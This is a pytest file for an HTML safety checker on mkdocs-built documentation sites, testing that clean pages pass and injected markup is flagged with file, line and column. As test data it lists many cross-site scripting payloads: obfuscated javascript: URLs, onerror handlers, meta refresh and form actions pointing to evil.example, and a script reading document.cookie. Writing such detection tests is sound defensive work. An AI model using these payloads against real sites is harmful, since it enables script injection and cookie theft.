"""The static site checker itself: clean pages pass, every kind of injection is caught and located."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.site_checker import (
    Violation,
    check_html,
    check_search_index,
    check_site,
    main,
    theme_script_signatures,
    url_scheme,
)

MATERIAL_SCOPE_SCRIPT = (
    '<script>__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
    "</script>"
)


def page(content: str, head: str = "", chrome: str = "") -> str:
    """A page shaped like mkdocs-material's: chrome outside, the content region inside the article."""
    return (
        "<!doctype html>\n<html><head><title>Agent</title>\n"
        f"{head}\n</head><body>\n"
        '<header><form class="md-search__form" name="search"><input type="text" name="query"></form></header>\n'
        f"{chrome}\n"
        '<main class="md-main"><article class="md-content__inner md-typeset">\n'
        f"{content}\n"
        "</article></main>\n</body></html>\n"
    )


def rules(violations: list[Violation]) -> list[str]:
    return [v.rule for v in violations]


CLEAN_CONTENT = """
<h1 id="h-agent">Agent &#60;script&#62;</h1>
<p>Plain <strong>text</strong>, <code>code</code>, &lt;img src=x onerror=alert(1)&gt; as text.</p>
<p><a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener">link</a>
<a href="mailto:ops@example.com">mail</a> <a href="../other/#skill-x">relative</a> <a href="#top">anchor</a></p>
<table><thead><tr><th style="text-align: center;">a</th><th style="text-align: right">b</th></tr></thead>
<tbody><tr><td style="text-align: left;">1</td><td>2</td></tr></tbody></table>
<ul class="task-list"><li class="task-list-item"><input type="checkbox" disabled checked/> done</li></ul>
<div class="tabbed-set"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio">
<label for="__tabbed_1_1">Tab</label></div>
<p><code>https://agent.example/a2a</code><button class="a2a-copy md-icon" type="button" title="Copy to clipboard"
aria-label="Copy https://agent.example/a2a" data-clipboard-text="https://agent.example/a2a"></button></p>
<pre class="a2a-example"><code>{&#10;  "key": "&lt;/code&gt;"&#10;}</code></pre>
<img src="../images/icon.png" alt="icon" srcset="a.png 1x, https://cdn.example/b.png 2x">
<span class="twemoji"><svg viewBox="0 0 24 24"><path d="M1 1"/></svg></span>
"""


def test_clean_page_has_no_violation() -> None:
    assert check_html(page(CLEAN_CONTENT, head=MATERIAL_SCOPE_SCRIPT), strict=True) == []


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("https://example.com/", "https"),
        ("HTTPS://EXAMPLE.COM/", "https"),
        ("javascript:alert(1)", "javascript"),
        (" \x01JaVaScRiPt:alert(1)", "javascript"),
        ("java\tscript:alert(1)", "javascript"),
        ("java\nscr\ript:x", "javascript"),
        ("data:text/html,x", "data"),
        ("ms-msdt:/id", "ms-msdt"),
        ("../agents/x/", None),
        ("//evil.example/x", None),
        ("#skill-a", None),
        ("java script:x", None),  # a space inside is not removed: a relative path
        ("java\x00script:x", None),
    ],
)
def test_url_scheme_follows_browser_normalisation(value: str, scheme: str | None) -> None:
    assert url_scheme(value) == scheme


def test_injected_img_onerror_is_caught_and_located() -> None:
    html_text = page('<p>x</p>\n<p>Name <img src=x onerror="alert(1)"></p>')
    violations = check_html(html_text, display="agents/a/index.html")
    assert rules(violations) == ["event-handler"]
    (violation,) = violations
    assert violation.file == "agents/a/index.html"
    assert (violation.line, violation.column) == (9, 9)
    assert str(violation).startswith("agents/a/index.html:9:9: event-handler: attribute 'onerror' on <img>")


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript&colon;alert(1)",
        "java&#x09;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#32;&#1;javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
    ],
)
def test_obfuscated_script_urls_are_caught(href: str) -> None:
    violations = check_html(page(f'<p><a href="{href}">click</a></p>'))
    assert rules(violations) == ["url-scheme"]


@pytest.mark.parametrize(
    ("markup", "rule"),
    [
        ('<img src="ok.png" srcset="ok.png 1x, javascript:alert(1) 2x">', "url-scheme"),
        ('<form><button formaction="https://evil.example/">x</button></form>', "forbidden-attribute"),
        ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "forbidden-element"),
        ('<meta http-equiv="Refresh" content="0;url=https://evil.example/">', "meta-http-equiv"),
        ('<meta http-equiv="set-cookie" content="a=b">', "meta-http-equiv"),
        ("<object data=x.swf></object>", "forbidden-element"),
        ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "forbidden-element"),
        ("<style>body{display:none}</style>", "content-element"),
        ('<form action="https://evil.example/"><input type="password" name="p"></form>', "content-element"),
        ('<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>', "inline-style"),
        ('<h2 id="__config">x</h2><h2 id="__config">y</h2>', "duplicate-id"),
        ('<img name="getElementById" src="a.png">', "dom-clobbering"),
        ('<details open ontoggle="alert(1)"><summary>x</summary></details>', "event-handler"),
        ("<script>alert(1)</script>", "script"),
        ('<script type="math/tex">x^2</script>', "script"),
        ("<base href=https://evil.example/>", "forbidden-element"),
        ("<p>x</p><!-- swallows the rest", "unterminated"),
        ("<p>x</p><textarea><p>the rest</p>", "unterminated"),
    ],
)
def test_each_rule_fires(markup: str, rule: str) -> None:
    assert rule in rules(check_html(page(markup)))


def test_stray_script_in_head_is_caught() -> None:
    violations = check_html(page("<p>ok</p>", head="<script>alert(document.domain)</script>"))
    assert rules(violations) == ["script"]
    assert "alert(document.domain)" in violations[0].message


def test_theme_script_with_appended_code_is_not_the_theme_s() -> None:
    tampered = MATERIAL_SCOPE_SCRIPT.replace("</script>", ";alert(1)</script>")
    assert rules(check_html(page("<p>ok</p>", head=tampered))) == ["script"]


def test_inline_script_allowed_by_baseline_hash() -> None:
    from tests.support.site_checker import _script_hash

    custom = "<script>window.analytics = 1;</script>"
    assert rules(check_html(page("<p>ok</p>", head=custom))) == ["script"]
    allowed = {_script_hash("window.analytics = 1;")}
    assert check_html(page("<p>ok</p>", head=custom), allowed_hashes=allowed) == []


def test_title_is_text_but_a_title_breakout_is_caught() -> None:
    inert = page("<p>ok</p>").replace(
        "<title>Agent</title>", "<title>&lt;/title&gt; <img src=x onerror=1></title>"
    )
    assert check_html(inert) == []
    broken = page("<p>ok</p>").replace(
        "<title>Agent</title>", "<title></title><script>alert(1)</script></title>"
    )
    assert rules(check_html(broken)) == ["script"]


def test_closed_comments_and_comment_like_text_are_fine() -> None:
    html_text = page("<!-- a2a-docgen:marker --><p>&lt;!-- shown as text</p>")
    html_text = html_text.replace("<title>Agent</title>", "<title><!-- title text</title>")
    assert check_html(html_text) == []


def test_textarea_content_is_text() -> None:
    html_text = page("<p>ok</p>", chrome="<textarea><img src=x onerror=alert(1)></textarea>")
    assert check_html(html_text) == []


def test_chrome_may_have_forms_and_inputs_but_content_may_not() -> None:
    chrome = '<form name="x"><input type="checkbox" id="__drawer"><button>b</button></form>'
    assert check_html(page("<p>ok</p>", chrome=chrome)) == []
    assert rules(check_html(page('<input type="checkbox">'))) == ["content-element"]


COPY = 'class="a2a-copy md-icon" type="button" title="Copy to clipboard" aria-label="Copy"'


@pytest.mark.parametrize(
    "button",
    [
        "<button>x</button>",
        f'<button {COPY} data-clipboard-text="javascript:alert(1)"></button>',
        f'<button {COPY} data-clipboard-text="https://a.example/" form="f"></button>',
        f'<button {COPY.replace("button", "submit", 1)} data-clipboard-text="https://a.example/"></button>',
        f'<button {COPY} data-clipboard-text="https://a.example/" name="n"></button>',
    ],
)
def test_only_our_copy_button_is_allowed_in_the_content(button: str) -> None:
    assert check_html(page(f'<button {COPY} data-clipboard-text="https://a.example/"></button>')) == []
    assert "content-element" in rules(check_html(page(button)))


def test_strict_mode_flags_elements_markdown_never_produces() -> None:
    html_text = page("<p><x-pwn>hi</x-pwn> <marquee>m</marquee></p>")
    assert check_html(html_text) == []
    assert rules(check_html(html_text, strict=True)) == ["unexpected-element", "unexpected-element"]


def test_default_theme_content_region_is_role_main() -> None:
    html_text = (
        '<html><head><title>t</title></head><body><div class="navbar"><input id="q"></div>'
        '<div class="col-md-9" role="main"><p>x</p><input type="text"></div>'
        "<script>hljs.highlightAll();</script></body></html>"
    )
    assert rules(check_html(html_text)) == ["content-element"]


def test_script_src_must_be_a_file_of_the_site(tmp_path: Path) -> None:
    (tmp_path / "js").mkdir()
    (tmp_path / "js" / "app.js").write_text("", encoding="utf-8")
    (tmp_path / "a").mkdir()
    index = tmp_path / "a" / "index.html"
    for src, expected in [
        ("../js/app.js", []),
        ("/js/app.js", []),
        ("../js/missing.js", ["script"]),
        ("../../outside.js", ["script"]),
        ("https://evil.example/x.js", ["script"]),
        ("//evil.example/x.js", ["script"]),
        ("https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.8.0/highlight.min.js", []),
    ]:
        html_text = page("<p>x</p>", head=f'<script src="{src}"></script>')
        assert rules(check_html(html_text, page=index, site_dir=tmp_path)) == expected, src


def test_theme_signatures_cover_the_installed_themes() -> None:
    signatures = theme_script_signatures()
    if not signatures:
        pytest.skip("neither mkdocs nor mkdocs-material templates are installed")
    assert any(p.fullmatch("hljs.highlightAll();") for p in signatures)


def test_search_index_fragments(tmp_path: Path) -> None:
    index = tmp_path / "search_index.json"
    docs = [
        {
            "location": "",
            "title": "Home",
            "text": "<p>ok <code>&lt;script&gt;</code></p> <ul> <li>x</li> </ul>",
        },
        {"location": "agents/a/", "title": "A <img src=x onerror=alert(1)>", "text": "<p>fine</p>"},
        {"location": "agents/b/", "title": "B", "text": '<p class="x">t</p>'},
        {
            "location": "agents/c/",
            "title": "C",
            "text": "t",
            "tags": ["&lt;ok&gt;", "<img src=x onerror=alert(1)>"],
        },
    ]
    index.write_text(json.dumps({"config": {}, "docs": docs}, indent=1), encoding="utf-8")
    violations = check_search_index(index, display="search/search_index.json")
    assert [v.message.split(":")[0] for v in violations] == [
        "docs[1].title ('agents/a/')",
        "docs[2].text ('agents/b/')",
        "docs[3].tags[1] ('agents/c/')",
    ]
    assert violations[0].line > 1


def test_zensical_search_index_fragments_are_checked(tmp_path: Path) -> None:
    """Zensical's ``search.json`` keeps its entries under ``items``, and its theme inserts them as HTML too."""
    (tmp_path / "assets" / "javascripts").mkdir(parents=True)
    (tmp_path / "assets" / "javascripts" / "bundle.0.min.js").write_text("", encoding="utf-8")
    items = [
        {"location": "", "level": 1, "title": "Home", "text": "<p>ok</p>", "path": [], "tags": []},
        {"location": "a/", "level": 1, "title": "A", "text": "<p><img src=x onerror=alert(1)></p>"},
    ]
    (tmp_path / "search.json").write_text(json.dumps({"config": {}, "items": items}), encoding="utf-8")
    violations = check_site(tmp_path)
    assert [(v.file, v.message.split(":")[0]) for v in violations] == [
        ("search.json", "items[1].text ('a/')")
    ]


def _build(project: Path) -> Path:
    subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-q", "-f", str(project / "mkdocs.yml")],
        check=True,
        capture_output=True,
        env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"},
    )
    return project / "site"


@pytest.mark.slow
@pytest.mark.parametrize("theme", ["mkdocs", "material"])
def test_real_clean_site_passes_and_injections_are_found(tmp_path: Path, theme: str) -> None:
    project = tmp_path / "p"
    (project / "docs").mkdir(parents=True)
    (project / "mkdocs.yml").write_text(
        f"site_name: Clean\ntheme: {theme}\nplugins: [search]\n", encoding="utf-8"
    )
    (project / "docs" / "index.md").write_text(
        "# Home\n\nText with [a link](https://example.com/).\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n",
        encoding="utf-8",
    )
    site = _build(project)
    assert check_site(site, strict=True) == []

    hostile = tmp_path / "hostile"
    shutil.copytree(site, hostile)
    index = hostile / "index.html"
    text = index.read_text(encoding="utf-8")
    text = text.replace("Text with", 'Text <img src="x" onerror="alert(1)"> with', 1)
    text = text.replace('href="https://example.com/"', 'href="&#106;avascript:alert(1)"', 1)
    text = text.replace("</head>", "<script>alert(document.cookie)</script></head>", 1)
    index.write_text(text, encoding="utf-8")
    violations = check_site(hostile, baseline=site, strict=True)
    assert sorted(rules(violations)) == ["event-handler", "script", "url-scheme"]
    assert all(v.file == "index.html" for v in violations)
    assert main([str(hostile), "--baseline", str(site)]) == 1
    assert main([str(site)]) == 0
    assert main([str(tmp_path / "missing")]) == 2
